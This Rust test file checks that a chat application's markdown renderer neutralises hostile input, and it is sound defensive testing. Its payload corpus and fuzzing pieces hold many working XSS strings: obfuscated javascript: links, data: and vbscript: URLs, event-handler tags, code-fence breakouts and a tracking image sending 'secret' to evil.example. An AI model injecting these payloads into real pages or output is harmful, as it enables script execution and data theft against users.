//! Hostile markdown: whatever the model writes, the rendered tree holds only
//! allow-listed tags and attributes, links only to http(s)/mailto, no
//! images, and raw HTML survives as visible text.

use minimax_chat::markdown::{ALLOWED_ATTRS, ALLOWED_TAGS, MdNode, render, to_html_string};
use proptest::prelude::*;

/// `(markdown, text that must appear literally in the rendered text)`.
const PAYLOADS: &[(&str, &str)] = &[
    // javascript: in every spelling
    ("[x](javascript:alert(1))", "x"),
    ("[x](JAVASCRIPT:alert(1))", "x"),
    ("[x](JaVaScRiPt:alert(1))", "x"),
    ("[x]( javascript:alert(1))", "x"),
    ("[x](  javascript:alert(1)  )", "x"),
    ("[x](<javascript:alert(1)>)", "x"),
    ("[x](<java script:alert(1)>)", "x"),
    ("[x](java&#9;script:alert(1))", "x"),
    ("[x](java&#10;script:alert(1))", "x"),
    ("[x](java&#x0A;script:alert(1))", "x"),
    ("[x](java&Tab;script:alert(1))", "x"),
    ("[x](java&NewLine;script:alert(1))", "x"),
    ("[x](&#106;avascript:alert(1))", "x"),
    ("[x](&#x6A;avascript:alert(1))", "x"),
    ("[x](&#0000106;avascript:alert(1))", "x"),
    ("[x](&#106avascript:alert(1))", "x"),
    ("[x](javascript&colon;alert(1))", "x"),
    ("[x](javascript&#58;alert(1))", "x"),
    ("[x](&amp;#106;avascript:alert(1))", "x"),
    ("[x](javascript&amp;colon;alert(1))", "x"),
    ("[x](javascript%3Aalert(1))", "x"),
    ("[x](%6Aavascript:alert(1))", "x"),
    ("[x](\u{1}javascript:alert(1))", "x"),
    ("[x](java\u{0}script:alert(1))", "x"),
    ("[x](ｊavascript:alert(1))", "x"),
    ("[x](https:javascript:alert(1))", "x"),
    // other dangerous schemes and relative targets
    (
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "x",
    ),
    ("[x](vbscript:msgbox(1))", "x"),
    ("[x](file:///etc/passwd)", "x"),
    ("[x](//evil.example/x)", "x"),
    ("[x](/relative) [y](#frag) [z](?q=1)", "z"),
    // autolinks
    ("<javascript:alert(1)>", "javascript:alert(1)"),
    ("<JAVASCRIPT:alert(1)>", "JAVASCRIPT:alert(1)"),
    ("<data:text/html,x>", "data:text/html,x"),
    ("<vbscript:msgbox(1)>", "vbscript:msgbox(1)"),
    (
        "<https://ok.example/\"onmouseover=\"alert(1)>",
        "https://ok.example/",
    ),
    // reference-style links
    ("[r]: javascript:alert(1)\n\n[x][r] [r] [r][]", "x"),
    ("[r]: <javascript:alert(1)> \"t\"\n\n[x][r]", "x"),
    ("[x][r]\n\n[r]: javascript:alert(1)", "[x][r]"),
    ("[r]: &#106;avascript:alert(1)\n\n[x][r]", "x"),
    // raw HTML: event handlers and dangerous elements
    (
        "<a href=\"javascript:alert(1)\">click</a>",
        "<a href=\"javascript:alert(1)\">click</a>",
    ),
    (
        "<img src=x onerror=alert(1)>",
        "<img src=x onerror=alert(1)>",
    ),
    (
        "Inline <img src=x onerror=alert(1)> here",
        "<img src=x onerror=alert(1)>",
    ),
    (
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    ),
    ("<svg onload=alert(1)>", "<svg onload=alert(1)>"),
    ("text <svg/onload=alert(1)> text", "<svg/onload=alert(1)>"),
    (
        "<base href=\"https://evil.example/\">",
        "<base href=\"https://evil.example/\">",
    ),
    (
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    ),
    (
        "<form action=\"https://evil.example\"><button>go</button></form>",
        "<form action=\"https://evil.example\"><button>go</button></form>",
    ),
    (
        "<object data=\"x.swf\"></object>",
        "<object data=\"x.swf\"></object>",
    ),
    ("<embed src=\"x.swf\">", "<embed src=\"x.swf\">"),
    (
        "<style>body{display:none}</style>",
        "<style>body{display:none}</style>",
    ),
    ("<script>alert(1)</script>", "<script>alert(1)</script>"),
    (
        "<div onmouseover=\"alert(1)\">hover</div>",
        "<div onmouseover=\"alert(1)\">hover</div>",
    ),
    ("**<b onclick=alert(1)>**", "<b onclick=alert(1)>"),
    (
        "<!--><script>alert(1)</script>-->",
        "<script>alert(1)</script>",
    ),
    (
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<img src=x onerror=alert(1)>",
    ),
    (
        "<details open ontoggle=alert(1)>",
        "<details open ontoggle=alert(1)>",
    ),
    // code that tries to break out of its element
    (
        "```\n</code></pre><script>alert(1)</script>\n```",
        "</code></pre><script>alert(1)</script>",
    ),
    (
        "```html\n<script>alert(1)</script>\n```",
        "<script>alert(1)</script>",
    ),
    (
        "```svg\n<svg onload=alert(1)></svg>\n```",
        "<svg onload=alert(1)></svg>",
    ),
    (
        "`</code><script>alert(1)</script>`",
        "</code><script>alert(1)</script>",
    ),
    ("```\"><img src=x onerror=alert(1)>\ncode\n```", "code"),
    // images
    ("![x](javascript:alert(1))", "x"),
    ("![x](data:image/png;base64,AAAA)", "x"),
    (
        "![x](https://evil.example/track.png?conv=secret)",
        "Load image: x",
    ),
    (
        "[![img](https://e.example/i.png)](javascript:alert(1))",
        "img",
    ),
    ("![x](<javascript:alert(1)> \"t\")", "x"),
    // attributes that must stay inert
    ("[x](https://example.com \"onmouseover=alert(1)\")", "x"),
    ("# Heading {#id onclick=alert(1)}", "{#id onclick=alert(1)}"),
    (
        "[^x]\n\n[^x]: <script>alert(1)</script>",
        "<script>alert(1)</script>",
    ),
    (
        "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
        "<img src=x onerror=alert(1)>",
    ),
    (
        "> <iframe src=\"https://evil.example\">",
        "<iframe src=\"https://evil.example\">",
    ),
    (
        "- [x] <input autofocus onfocus=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
    ),
];

/// Collects every problem with `nodes`; empty when the tree is safe.
fn violations(nodes: &[MdNode], out: &mut Vec<String>) {
    for node in nodes {
        let MdNode::Element {
            tag,
            attrs,
            children,
        } = node
        else {
            continue;
        };
        if !ALLOWED_TAGS.contains(tag) || *tag == "img" {
            out.push(format!("tag <{tag}>"));
        }
        for (name, value) in attrs {
            if !ALLOWED_ATTRS.contains(name) || name.starts_with("on") {
                out.push(format!("attribute {name}"));
            }
            let web = value.starts_with("http://") || value.starts_with("https://");
            if *name == "href" && !(web || value.starts_with("mailto:")) {
                out.push(format!("href {value:?}"));
            }
            if *name == "data-src" && !web {
                out.push(format!("data-src {value:?}"));
            }
        }
        violations(children, out);
    }
}

fn text_of(nodes: &[MdNode]) -> String {
    nodes.iter().map(MdNode::text_content).collect()
}

fn check(src: &str) -> Result<(), String> {
    let nodes = render(src);
    let mut problems = Vec::new();
    violations(&nodes, &mut problems);
    // Only our own tags are unescaped in the snapshot serialisation.
    let html = to_html_string(&nodes).to_ascii_lowercase();
    for tag in [
        "<script", "<iframe", "<img", "<svg", "<base", "<meta", "<form", "<object", "<embed",
        "<style", "<math", "<link", "<details", "<b ",
    ] {
        if html.contains(tag) {
            problems.push(format!("markup {tag}"));
        }
    }
    if problems.is_empty() {
        Ok(())
    } else {
        Err(format!("{src:?}: {problems:?}\n{html}"))
    }
}

#[test]
fn corpus_is_large_enough() {
    assert!(PAYLOADS.len() >= 40, "{} payloads", PAYLOADS.len());
}

#[test]
fn payloads_render_safely() {
    for (src, _) in PAYLOADS {
        if let Err(problem) = check(src) {
            panic!("{problem}");
        }
    }
}

#[test]
fn payload_text_stays_visible() {
    for (src, visible) in PAYLOADS {
        let text = text_of(&render(src));
        assert!(text.contains(visible), "{src:?} lost {visible:?}: {text:?}");
    }
}

#[test]
fn no_payload_becomes_a_script_link() {
    for (src, _) in PAYLOADS {
        let html = to_html_string(&render(src)).to_ascii_lowercase();
        for bad in [
            "href=\"javascript",
            "href=\"data",
            "href=\"vbscript",
            "href=\"file",
        ] {
            assert!(!html.contains(bad), "{src:?} -> {html}");
        }
    }
}

#[test]
fn blocked_links_are_marked() {
    let html = to_html_string(&render("[click](javascript:alert(1))"));
    assert_eq!(
        html,
        "<p><span class=\"link-blocked\" title=\"blocked link\">click</span></p>"
    );
}

#[test]
fn breakout_fence_stays_inside_code() {
    let nodes = render("```\n</code></pre><script>alert(1)</script>\n```");
    let [
        MdNode::Element {
            tag: "pre",
            children,
            ..
        },
    ] = nodes.as_slice()
    else {
        panic!("expected one <pre>: {nodes:?}");
    };
    let [
        MdNode::Element {
            tag: "code",
            children: code,
            ..
        },
    ] = children.as_slice()
    else {
        panic!("expected <code> in <pre>: {children:?}");
    };
    assert_eq!(
        code,
        &[MdNode::Text(
            "</code></pre><script>alert(1)</script>\n".to_owned()
        )]
    );
}

#[test]
fn remote_image_needs_a_click_and_names_its_host() {
    let html = to_html_string(&render("![x](https://evil.example/t.png?c=secret)"));
    assert_eq!(
        html,
        "<p><span class=\"md-image\" data-src=\"https://evil.example/t.png?c=secret\">\
         <button type=\"button\" class=\"load-image\" data-src=\"https://evil.example/t.png?c=secret\" \
         title=\"https://evil.example/t.png?c=secret\">Load image: x</button> \
         <span class=\"md-image-host\">(evil.example)</span></span></p>"
    );
}

/// Pieces of hostile and ordinary markdown to mix at random.
const PIECES: &[&str] = &[
    "[x](",
    "javascript:",
    "JaVa",
    "&#106;",
    "&#x6A;",
    "&colon;",
    "&Tab;",
    "%3A",
    "data:",
    "https://ok.example/",
    "mailto:a@b.example",
    ")",
    "<",
    ">",
    "\"",
    "'",
    "<script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=",
    "<a href=",
    "![i](",
    "[r]: ",
    "[r]",
    "\n",
    "\n\n",
    "```",
    "`",
    " ",
    "\t",
    "- ",
    "> ",
    "| a |\n|---|\n",
    "[^1]",
    "#",
    "*",
    "alert(1)",
    "\u{0}",
    "\r",
];

proptest! {
    #![proptest_config(ProptestConfig {
        cases: 3000,
        failure_persistence: None,
        ..ProptestConfig::default()
    })]

    #[test]
    fn random_hostile_text_renders_safely(
        parts in proptest::collection::vec(proptest::sample::select(PIECES), 0..40),
    ) {
        let src = parts.concat();
        if let Err(problem) = check(&src) {
            prop_assert!(false, "{}", problem);
        }
    }
}
